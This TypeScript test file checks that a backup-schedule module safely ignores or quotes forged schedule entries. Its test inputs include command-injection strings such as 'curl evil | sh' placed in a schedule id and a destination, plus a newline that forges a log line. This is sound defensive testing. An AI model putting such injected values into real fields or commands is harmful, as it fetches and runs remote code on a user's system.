import { SharedState } from '@securestore/jobs';
import { extensionsOf } from '@securestore/objects/internal';
import { describe, expect, it } from 'vitest';
import { Schedules } from '../../src/index.ts';
import { storageIn } from '../../src/schedule/schedule-list.ts';
import { backupsOf, connectTo, worldOf } from '../support/worlds.ts';

const GOOD = { id: 'nightly', cron: '@daily', since: 0, task: { task: 'backup', destination: 'file:/gone' } };

const parse = (value: Record<string, unknown>): object => value;

/** A store whose list of schedules was written by a member, who has the key of the store's states. */
async function scene(...forged: readonly unknown[]) {
  const { store, clock } = await worldOf();
  const area = extensionsOf(store).backup;
  const list = new SharedState<object>(storageIn(area), clock, 'schedules', { what: 'the list', version: 1, parse });
  await list.update(async () => ({ schedules: [...forged, GOOD] }));
  return new Schedules(store, backupsOf(store, []), connectTo([]));
}

describe('a list of schedules that a member has forged', () => {
  it('leaves out what cannot be a schedule, in alerts and lists', async () => {
    const schedules = await scene(
      { ...GOOD, id: 'x"; curl evil | sh; "' },
      { ...GOOD, id: 'lines', task: { task: 'backup', destination: 'file:/x\n2026-01-01 all is well' } },
      { ...GOOD, id: 'number', task: { task: 'backup', destination: 7 } },
      { ...GOOD, id: 'bare', task: undefined },
      { ...GOOD, id: 'never', cron: 'at noon' },
      null,
    );
    const found = await schedules.conditions();
    expect(found.flatMap(({ conditions }) => conditions.map(({ id }) => id))).toEqual(['unregistered:nightly']);
    expect((await schedules.list()).map(({ id }) => id)).toEqual(['nightly']);
  });

  it('gets no command into advice', async () => {
    const task = { task: 'backup', destination: "file:/x;curl evil|sh'" };
    const schedules = await scene({ ...GOOD, id: 'odd', task });
    const [odd] = (await schedules.conditions()).filter(({ destination }) => destination === task.destination);
    expect(odd?.conditions[0]?.advice).toContain(String.raw`securestore destination add 'file:/x;curl evil|sh'\'''"`);
  });
});
